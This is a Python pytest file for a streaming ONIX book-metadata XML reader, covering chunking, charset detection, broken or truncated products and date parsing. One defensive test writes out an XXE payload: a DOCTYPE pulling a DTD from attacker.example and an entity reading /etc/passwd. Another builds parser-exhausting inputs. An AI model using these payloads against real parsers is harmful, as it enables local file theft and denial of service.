"""Cutting an ONIX file into products: whatever the pieces, the charset, the damage."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import date

import pytest

from connectors.base import Reject, Upsert
from connectors.onix_header import header_of
from connectors.onix_message import splitter
from connectors.onix_reading import MessageReader
from net.errors import FeedChanged, SourceFailure

HEAD = '<ONIXMessage release="2.1"><Header><SentDate>20261101</SentDate></Header>\n'


def product(reference: str, title: str = "Titre") -> str:
    return (
        f"<Product><RecordReference>{reference}</RecordReference><NotificationType>03</NotificationType>"
        f"<ProductForm>BC</ProductForm><Title><TitleText>{title}</TitleText></Title></Product>\n"
    )


def message(*products: str) -> str:
    return HEAD + "".join(products) + "</ONIXMessage>"


def pieces(body: bytes, size: int) -> Iterator[bytes]:
    return (body[start : start + size] for start in range(0, len(body), size))


def read(body: bytes, *, size: int = 7, recorded: bool = True):
    """(changes, the failure or None)."""
    reader = MessageReader("onix", "essai", place="f.xml", today=date(2026, 11, 23))
    found = []
    try:
        for piece in pieces(body, size):
            found += reader.feed(piece)
        for change in reader.finish(recorded=recorded):
            found.append(change)
    except SourceFailure as failure:
        return found, failure
    return found, None


def titles(changes) -> list[str]:
    return [change.record.title for change in changes if isinstance(change, Upsert)]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 100_000])
def test_pieces_may_be_cut_anywhere(size) -> None:
    """The products of a file do not depend on where its bytes are cut."""
    body = message(
        "<!-- <Product> a comment -->", product("1", "Un"), product("2", "<![CDATA[Deux </Product>]]>"), product("3")
    )
    found, failure = read(body.encode(), size=size)
    assert failure is None
    assert titles(found) == ["Un", "Deux", "Titre"]


@pytest.mark.parametrize(
    ("charset", "declared", "bom", "note"),
    [
        ("utf-8", "utf-8", b"", None),
        ("utf-8", "utf-8", b"\xef\xbb\xbf", None),
        ("utf-16", "utf-16", b"", None),
        ("utf-16-le", "utf-16", b"", None),
        ("utf-16-be", "utf-16", b"", None),
        ("iso-8859-1", "iso-8859-1", b"", None),
        ("cp1252", "windows-1252", b"", None),
        ("cp1252", "utf-8", b"", "lu en cp1252, alors que le fichier se dit utf-8"),
        ("cp1252", None, b"", "lu en cp1252, alors que le fichier se dit utf-8"),
        ("utf-8", "utf-16", b"", "lu en utf-8, alors que le fichier se dit utf-16"),
        ("utf-8", "iso-8859-1", b"", "lu en utf-8, alors que le fichier se dit iso-8859-1"),
        ("utf-8", "klingon", b"", "lu en utf-8, alors que le fichier se dit klingon"),
    ],
)
def test_the_charset_that_won_is_reported(charset, declared, bom, note) -> None:
    """Text is right whatever the declaration says, and a false one is noted on the record."""
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else "<?xml version='1.0'?>"
    body = bom + (declaration + message(product("1", "L'été à Noël"))).encode(charset)
    (change,), failure = read(body, size=1000)
    assert failure is None
    assert change.record.title == "L'été à Noël"
    assert ((note,) if note else ()) == change.notes


def test_cp1252_under_a_latin_1_declaration() -> None:
    """Bytes 0x80 to 0x9F are no letters of ISO-8859-1: the quotes of Windows are read."""
    body = ('<?xml version="1.0" encoding="iso-8859-1"?>' + message(product("1", "L’œuvre — à lire"))).encode("cp1252")
    (change,), _ = read(body)
    assert change.record.title == "L’œuvre — à lire"
    assert change.notes == ("lu en cp1252, alors que le fichier se dit iso-8859-1",)


def test_charsets_are_judged_product_by_product() -> None:
    """One product in another charset takes no neighbour with it."""
    body = HEAD.encode() + product("1", "Été").encode() + product("2", "Été").encode("cp1252")
    body += product("3", "Été").encode() + b"</ONIXMessage>"
    found, _ = read(body)
    assert titles(found) == ["Été"] * 3
    assert [len(change.notes) for change in found] == [0, 1, 0]


def test_a_broken_product_takes_no_neighbour_with_it() -> None:
    """Ill-formed products are rejected under their key, with the line and column where they break."""
    broken = "<Product><RecordReference>2</RecordReference>\n<Title>oups</Titre></Product>\n"
    cut = "<Product><RecordReference>3</RecordReference><Title>"
    body = message(product("1"), broken, cut, product("4"))
    found, failure = read(body.encode())
    assert failure is None
    assert [(c.record if isinstance(c, Upsert) else c).ref.key for c in found] == ["1", "2", "3", "4"]
    rejected = [change for change in found if isinstance(change, Reject)]
    assert rejected[0].why.startswith("XML mal formé : Opening and ending tag mismatch")
    assert "f.xml, ligne 4, colonne" in rejected[0].why
    assert rejected[1].why == "un autre produit commence avant sa fin (f.xml, ligne 5, colonne 1)"
    assert broken.strip().encode() == rejected[0].raw


@pytest.mark.parametrize(
    ("body", "expected", "why"),
    [
        (message(product("1"), product("2"))[:-60], ["Titre"], "le fichier s'arrête dans ce produit"),
        (HEAD + product("1"), ["Titre"], "le message n'a pas de fin"),
        (HEAD, [], "le message n'a pas de fin"),
        ("<html><body>Erreur 500", [], "ni message ni produit ONIX"),
        ("", [], "ni message ni produit ONIX"),
        ("pas du XML", [], "ni message ni produit ONIX"),
    ],
    ids=["in a product", "after a product", "after the header", "an error page", "empty", "text"],
)
def test_a_cut_file_yields_what_was_whole_then_says_where(body, expected, why) -> None:
    """A file cut in the middle gives its whole products, then an error with line and column."""
    found, failure = read(body.encode())
    assert expected == titles(found)
    assert isinstance(failure, FeedChanged)
    assert why in failure.message
    assert str(failure.place).startswith("f.xml, ligne ")


@pytest.mark.parametrize("body", ["<ONIXMessage/>", HEAD + "</ONIXMessage>", "<ONIXmessage release='2.1' />"])
def test_a_message_without_products_is_one(body) -> None:
    """Nothing changed is not an error."""
    assert read(body.encode()) == ([], None)


def test_sound_xml_about_something_else_is_rejected_when_recorded() -> None:
    """A stray file of a folder is a reject; an address that serves one is an error."""
    body = b"<Contributor><PersonName>X</PersonName></Contributor>"
    (change,), failure = read(body)
    assert failure is None
    assert change.why == "ni message ni produit ONIX : racine <Contributor> (f.xml)"
    assert isinstance(read(body, recorded=False)[1], FeedChanged)


def test_entities_are_read_here_and_never_declared_by_the_file() -> None:
    """HTML's named entities are known; those a file declares itself are not, so nothing can expand."""
    doctype = '<!DOCTYPE ONIXMessage SYSTEM "http://attacker.example/x.dtd" [<!ENTITY lol "lol"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    body = doctype + message(
        product("1", "Caf&eacute; &amp; th&eacute; &#233;"), product("2", "&lol;"), product("3", "&f;")
    )
    found, _ = read(body.encode())
    assert titles(found) == ["Café & thé é"]
    assert [change.ref.key for change in found if isinstance(change, Reject)] == ["2", "3"]


def test_control_characters_are_dropped_with_a_note() -> None:
    """Characters that XML forbids are dropped, as such or as references, and noted."""
    (change,), _ = read(message(product("1", "Un\x0bdeux&#x1B;trois")).encode())
    assert (change.record.title, change.notes) == ("Undeuxtrois", ("caractères de contrôle ôtés",))


def test_prefixed_messages_read_alike() -> None:
    """Elements with a namespace prefix are the same elements."""
    body = message(product("1", "Préfixé")).replace("<", "<o:").replace("<o:/", "</o:")
    body = body.replace("<o:ONIXMessage", '<o:ONIXMessage xmlns:o="http://ns.editeur.org/onix/3.0/reference"')
    found, failure = read(body.encode())
    assert failure is None
    assert titles(found) == ["Préfixé"]


@pytest.mark.parametrize(
    "body",
    [
        HEAD.encode() + b"<!-- " * 2_000_000,
        b"<Product>" + b"<![CDATA[" * 1_500_000,
        b"<!DOCTYPE " + b"[]" * 2_000_000,
        b"</Product " * 500_000,
        b"<Product>" + b"<a>" * 300_000 + b"</a>" * 300_000 + b"</Product>",
        b"<Product><Title><TitleText>" + b"&lt;!-- " * 200_000 + b"</TitleText></Title></Product>",
        b"<Product>" + b"x" * 20_000_000,
    ],
    ids=["comments", "cdata", "doctype", "ends", "deep", "escaped comments", "one huge product"],
)
def test_hostile_files_cost_little(body) -> None:
    """Depth, size and what never ends are bounded: an answer in seconds, never an unnamed error."""
    begun = time.process_time()
    found, failure = read(body, size=262_144)
    assert time.process_time() - begun < 10
    assert failure is not None or any(isinstance(change, Reject) for change in found)


def test_memory_stays_flat() -> None:
    """A splitter forgets what it told: its buffer never holds more than a product and a piece."""
    message = splitter()
    for number in range(2000):
        list(message.feed(product(str(number), "x" * 1000).encode()))
        assert len(message._buffer) < 5000
    assert message.items == 2000


@pytest.mark.parametrize(
    ("told", "expected"),
    [
        ("20261101T0800Z", "2026-11-01T08:00:00+00:00"),
        ("20261101T080000+0100", "2026-11-01T07:00:00+00:00"),
        ("20100510T1115-0400", "2010-05-10T15:15:00+00:00"),
        ("202611010800", "2026-10-31T18:00:00+00:00"),
        ("20261101", "2026-10-31T10:00:00+00:00"),
        ("20261301", None),
        ("hier", None),
    ],
)
def test_sent_dates_are_taken_at_their_earliest(told, expected) -> None:
    """A sent date without a zone may be fourteen hours earlier than it looks."""
    sent_at = header_of(f"<ONIXMessage><Header><SentDateTime>{told}</SentDateTime></Header>").sent_at
    assert expected == (None if sent_at is None else sent_at.isoformat())
